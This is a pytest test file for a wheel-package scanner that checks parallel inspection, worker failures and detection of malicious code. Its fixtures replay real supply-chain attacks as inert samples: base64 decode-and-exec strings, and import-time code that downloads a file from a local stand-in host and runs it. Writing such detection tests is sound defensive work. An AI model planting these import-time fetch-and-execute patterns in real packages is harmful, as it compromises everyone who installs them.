"""Many wheels at once: what becomes of one says nothing about another, and none is left out."""

from __future__ import annotations

import os
import signal
import time
from pathlib import Path

import pytest

from tests.vectors.code_in_wheels import module
from tests.vectors.wheels import wheel
from weighlock.executors.processes import Processes
from weighlock.finding import Outcome
from weighlock.formats.source import BytesSource
from weighlock.gates import examine
from weighlock.gates.examine import WheelJob, examine_wheels
from weighlock.inspector.packages import Examination, inspect_wheel

HIDDEN = "import base64\nexec(base64.b64decode('eA=='))\n"


def _job(folder: Path, made: tuple[str, bytes]) -> WheelJob:
    name, data = made
    (folder / name).write_bytes(data)
    return WheelJob(path=str(folder / name), filename=name)


def _large(name: str) -> tuple[str, bytes]:
    files = {f"{name}/m{number}.py": f"x = {number}\n" for number in range(40)}
    files |= {f"{name}/__init__.py": HIDDEN, f"{name}/tool.sh": "true\n"}
    return wheel(name, files, scripts=[name])


def test_every_wheel_has_an_answer_in_its_place(tmp_path: Path):
    made = [module("bad", HIDDEN), module("good", "x = 1\n"), ("broken-1.0-py3-none-any.whl", b"no zip")]
    jobs = [_job(tmp_path, one) for one in made]
    jobs.append(WheelJob(path=str(tmp_path / "missing"), filename="missing-1.0-py3-none-any.whl"))
    answers = [answer.inspection.outcome for answer in examine_wheels(jobs)]
    assert answers == [Outcome.REFUSED, Outcome.DATA_ONLY, Outcome.UNVERIFIABLE, Outcome.UNVERIFIABLE]


def test_shares_find_what_one_process_finds(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(examine, "_SHARED", 1)
    job = _job(tmp_path, _large("large"))
    [shared] = examine_wheels([job], Processes(2))
    monkeypatch.setattr(examine, "_SHARED", 1 << 30)
    [whole] = examine_wheels([job])
    assert set(shared.inspection.findings) == set(whole.inspection.findings)
    assert shared.inspection.outcome is whole.inspection.outcome is Outcome.REFUSED
    assert shared.profile == whole.profile is not None


def _die_of_one(share: examine._Share) -> tuple[int, Examination]:
    if "deadly" in share.job.filename:
        os.kill(os.getpid(), signal.SIGKILL)
    return examine._examine(share)


def _hang_with_one(share: examine._Share) -> tuple[int, Examination]:
    if "endless" in share.job.filename:
        signal.setitimer(signal.ITIMER_PROF, 0.2)  # as `_examine_in_time` does, with less patience
        end = time.process_time() + 60
        while time.process_time() < end:
            pass
    return examine._examine(share)


@pytest.mark.parametrize(("work", "name"), [(_die_of_one, "deadly"), (_hang_with_one, "endless")])
def test_a_wheel_with_which_a_worker_ends_is_unverifiable_and_the_others_are_judged(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, work: object, name: str
):
    monkeypatch.setattr(examine, "_examine_in_time", work)
    jobs = [_job(tmp_path, module(one, "x = 1\n")) for one in ("first", name, "last")]
    answers = examine_wheels(jobs, Processes(2))
    outcomes = [answer.inspection.outcome for answer in answers]
    assert outcomes == [Outcome.DATA_ONLY, Outcome.UNVERIFIABLE, Outcome.DATA_ONLY]
    assert answers[1].profile is None


def test_a_worker_that_takes_too_long_is_ended_by_the_clock_of_its_processor(monkeypatch: pytest.MonkeyPatch):
    asked: list[float] = []
    monkeypatch.setattr(signal, "setitimer", lambda which, seconds: asked.append(seconds))
    monkeypatch.setattr(examine, "_examine", lambda share: (share.number, None))
    examine._examine_in_time(examine._Share(7, WheelJob(path="", filename="")))
    assert asked == [examine._LONGEST, 0]


def test_whatever_goes_wrong_inside_is_unverifiable(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    def fail(*_: object, **__: object) -> Examination:
        raise RuntimeError("a bug")

    monkeypatch.setattr(examine, "examine_wheel", fail)
    [answer] = examine_wheels([_job(tmp_path, module("any", "x = 1\n"))])
    assert answer.inspection.outcome is Outcome.UNVERIFIABLE
    assert "RuntimeError" in answer.inspection.findings[0].message


def test_the_examination_of_a_wheel_does_not_unpack_or_import_it(tmp_path: Path):
    marker = tmp_path / "marker"
    made = module("runs", f"open({str(marker)!r}, 'w')\n")
    before = sorted(os.listdir(tmp_path))
    job = _job(tmp_path, made)
    examine_wheels([job])
    assert sorted(os.listdir(tmp_path)) == sorted([*before, made[0]])


@pytest.mark.parametrize(
    ("name", "files", "check"),
    [
        ("like_aiocpa", {"like_aiocpa/utils/sync.py": f"{HIDDEN}"}, "decodes-and-executes"),
        (
            "like_litellm",
            {
                "like_litellm/proxy/server.py": "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', "
                "\"import base64; exec(base64.b64decode('eA=='))\"])\n"
            },
            "decodes-and-executes",
        ),
        (
            "like_lightning",
            {
                "like_lightning/_runtime/__init__.py": "import os, threading\nfrom urllib.request import urlretrieve\n"
                "def go():\n    urlretrieve('http://127.0.0.1/bun', 'bun')\n    os.system('./bun run router.js')\n"
                "threading.Thread(target=go).start()\n",
                "like_lightning/__init__.py": "from . import _runtime\n",
            },
            "import-time-behaviour",
        ),
    ],
)
def test_a_replay_of_a_real_attack_stands_in_the_way(name: str, files: dict[str, str], check: str):
    made = wheel(name, {f"{name}/__init__.py": "", **files})
    found = inspect_wheel(BytesSource(made[1]), made[0])
    assert check in {finding.check for finding in found.findings if finding.outcome > Outcome.DATA_ONLY}


def test_an_import_that_asks_for_a_device_and_tells_a_server_is_told_and_does_not_stand_in_the_way():
    text = (
        "import subprocess, requests\n\ndef count():\n    try:\n        subprocess.run(['nvidia-smi', '-L'])\n"
        "    finally:\n        requests.get('http://127.0.0.1/count')\n\ncount()\n"
    )
    name, data = module("counts", text)
    found = inspect_wheel(BytesSource(data), name)
    assert {finding.check for finding in found.findings} == {"import-time-behaviour"}
    assert found.outcome is Outcome.DATA_ONLY


@pytest.mark.parametrize(
    "program", ["[path]", "'./bun run x.js'", "['/tmp/x']", "['node', 'x.js']", "[*rest]", "made()"]
)
def test_an_import_that_fetches_and_starts_a_program_of_its_own_needs_a_person(program: str):
    text = f"import os, subprocess, requests\nrequests.get('http://127.0.0.1/x')\nsubprocess.run({program})\n"
    name, data = module("fetches", text)
    assert inspect_wheel(BytesSource(data), name).outcome is Outcome.NEEDS_APPROVAL
